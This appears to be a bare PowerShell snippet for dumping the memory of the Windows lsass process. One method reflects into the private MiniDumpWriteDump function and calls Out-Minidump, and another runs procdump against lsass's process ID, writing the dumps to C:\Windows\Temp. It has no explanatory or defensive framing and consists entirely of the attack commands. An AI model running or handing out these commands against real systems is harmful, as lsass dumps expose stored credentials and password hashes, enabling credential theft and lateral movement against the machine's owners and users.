$WER = [PSObject].Assembly.GetType('System.Management.Automation.WindowsErrorReporting')
$methods = $WER.GetNestedType('NativeMethods', 'NonPublic')
$methods.GetMethod('MiniDumpWriteDump', ([Reflection.BindingFlags] 'NonPublic, Static'))
Get-Process lsass | Out-Minidump -DumpFilePath C:\Windows\Temp
$id = (Get-Process -Name lsass).Id
& C:\Tools\procdump.exe -accepteula -ma $id C:\Windows\Temp\out.dmp
